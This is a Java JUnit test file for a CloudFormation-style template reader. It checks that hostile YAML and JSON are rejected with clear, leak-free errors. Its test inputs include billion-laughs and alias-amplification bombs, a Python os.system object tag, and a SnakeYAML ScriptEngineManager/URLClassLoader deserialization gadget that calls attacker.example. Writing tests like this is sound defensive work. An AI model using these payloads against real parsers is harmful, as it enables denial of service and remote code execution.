package dev.fogbank.shared.template;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.stream.Stream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Input built to hurt a parser is refused quickly, with a clear reason and no library text. */
class HostileTemplateTest {

  /** The classic "billion laughs": nine levels, each alias list ten times the one before. */
  private static String billionLaughs() {
    StringBuilder yaml =
        new StringBuilder("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
    for (int level = 1; level <= 9; level++) {
      String previous = "*a" + (level - 1);
      yaml.append("a").append(level).append(": &a").append(level).append(" [");
      yaml.append(String.join(", ", java.util.Collections.nCopies(9, previous)));
      yaml.append("]\n");
    }
    return yaml.toString();
  }

  /** Aliases of one large scalar, which SnakeYAML does not count as collection aliases. */
  private static String scalarAliases() {
    return "Metadata:\n  Big: &big '"
        + "x".repeat(400_000)
        + "'\n  Copies: ["
        + String.join(", ", java.util.Collections.nCopies(15, "*big"))
        + "]\n";
  }

  static Stream<Arguments> hostile() {
    return Stream.of(
        Arguments.of("a billion laughs", billionLaughs(), "template", "more than 20 aliases"),
        Arguments.of(
            "aliases of a large scalar",
            scalarAliases(),
            "Metadata.Copies[9]",
            "aliases expand the template beyond"),
        Arguments.of(
            "an alias inside its own anchor",
            "Metadata:\n  Loop: &loop [a, *loop]\n",
            "Metadata.Loop[1]",
            "an alias refers to a node that contains it"),
        Arguments.of(
            "deep YAML nesting",
            "Metadata:\n  Deep: " + "[".repeat(150) + "]".repeat(150) + "\n",
            "template",
            "nested deeper than 100 levels"),
        Arguments.of(
            "deep nesting through aliases",
            "Metadata:\n  A: &a "
                + "[".repeat(60)
                + "]".repeat(60)
                + "\n  B: "
                + "[".repeat(60)
                + "*a"
                + "]".repeat(60)
                + "\n",
            "Metadata.B[0][0]",
            "nested deeper than 100 levels"),
        Arguments.of(
            "deep JSON nesting",
            "{\"Metadata\": " + "[".repeat(150) + "]".repeat(150) + "}",
            "template",
            "nested deeper than 100 levels"),
        Arguments.of(
            "two YAML documents",
            "Resources: {}\n---\nResources: {}\n",
            "line 2, column 1",
            "a second document starts here"),
        Arguments.of(
            "a Python object tag",
            "Metadata:\n  X: !!python/object/apply:os.system [\"id\"]\n",
            "line 2, column 6",
            "unsupported tag !!python/object/apply:os.system"),
        Arguments.of(
            "a Java class tag (the SnakeYAML gadget shape)",
            "Metadata:\n  X: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
                + " [[!!java.net.URL [\"http://attacker.example/\"]]]]\n",
            "line 2, column 6",
            "unsupported tag !!javax.script.ScriptEngineManager"),
        Arguments.of(
            "a binary scalar",
            "Metadata:\n  X: !!binary aGVsbG8=\n",
            "Metadata.X",
            "unsupported tag !!binary"),
        Arguments.of(
            "a set", "Metadata:\n  X: !!set {a, b}\n", "Metadata.X", "unsupported tag !!set"),
        Arguments.of(
            "a merge key",
            "Metadata:\n  Base: &base {a: 1}\n  X:\n    <<: *base\n    b: 2\n",
            "Metadata.X",
            "merge keys (<<) are not supported"),
        Arguments.of("an empty template", "", "template", "template is empty"),
        Arguments.of("white space only", " \n\t\n", "template", "template is empty"),
        Arguments.of("comments only", "# nothing here\n", "template", "template is empty"),
        Arguments.of(
            "a control character", "Metadata:\n  X: \"a\u0001\"\n", "line 2", "does not allow"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("hostile")
  @DisplayName("Hostile YAML and JSON are refused cleanly, saying why and where")
  void refused(String what, String text, String location, String reason) {
    TemplateException e =
        assertTimeoutPreemptively(
            Duration.ofSeconds(60), // a hang guard, not a speed check (see scripts/bench)
            () -> assertThrows(TemplateException.class, () -> TemplateReader.read(text)));
    TemplateProblem problem = e.problems().get(0);
    assertTrue(problem.location().startsWith(location), e.getMessage());
    assertTrue(problem.message().contains(reason), problem.message());
    assertClean(e);
  }

  @Test
  @DisplayName("A template over 1 MiB is refused before parsing, naming CloudFormation's limit")
  void oversized() {
    String text = "Metadata:\n  X: '" + "x".repeat(TemplateLimits.MAX_TEMPLATE_BYTES) + "'\n";
    for (TemplateException e :
        new TemplateException[] {
          assertThrows(TemplateException.class, () -> TemplateReader.read(text)),
          assertThrows(
              TemplateException.class,
              () -> TemplateReader.read(text.getBytes(StandardCharsets.UTF_8)))
        }) {
      assertEquals("template", e.problems().get(0).location());
      assertTrue(e.getMessage().contains("at most 1048576 bytes"), e.getMessage());
      assertTrue(e.getMessage().contains("S3"), e.getMessage());
      assertClean(e);
    }
  }

  @Test
  @DisplayName("The size limit counts UTF-8 bytes, not characters")
  void sizeInBytes() {
    // 600,000 two-byte characters: fewer characters than the limit, more bytes.
    String text = "Metadata:\n  X: '" + "é".repeat(600_000) + "'\n";
    TemplateException e = assertThrows(TemplateException.class, () -> TemplateReader.read(text));
    assertTrue(e.getMessage().contains("1200"), e.getMessage());
  }

  @Test
  @DisplayName("Bytes that are not UTF-8 are refused with their offset")
  void notUtf8() {
    byte[] bytes = {'a', ':', ' ', (byte) 0xC3, (byte) 0x28, '\n'};
    TemplateException e = assertThrows(TemplateException.class, () -> TemplateReader.read(bytes));
    assertTrue(e.getMessage().contains("not valid UTF-8 (bad byte at offset 3)"), e.getMessage());
    assertClean(e);
  }

  @Test
  @DisplayName("A few ordinary aliases, as people use them for repeated blocks, are accepted")
  void ordinaryAliases() {
    Template t =
        TemplateReader.read(
            """
            Resources:
              A:
                Type: AWS::SNS::Topic
                Properties:
                  Tags: &tags
                    - Key: team
                      Value: platform
              B:
                Type: AWS::SNS::Topic
                Properties:
                  Tags: *tags
            """);
    assertEquals(
        t.resources().get("A").properties().get("Tags"),
        t.resources().get("B").properties().get("Tags"));
  }

  /** No third-party text, type names or stack traces reach the caller. */
  private static void assertClean(TemplateException e) {
    assertNull(e.getCause());
    String message = e.getMessage();
    for (String leak :
        new String[] {"org.yaml", "com.fasterxml", "Exception", "[Source:", "\tat "}) {
      assertFalse(message.contains(leak), "leaks " + leak + ": " + message);
    }
    assertTrue(message.length() < 1000, "message too long: " + message.length());
  }
}
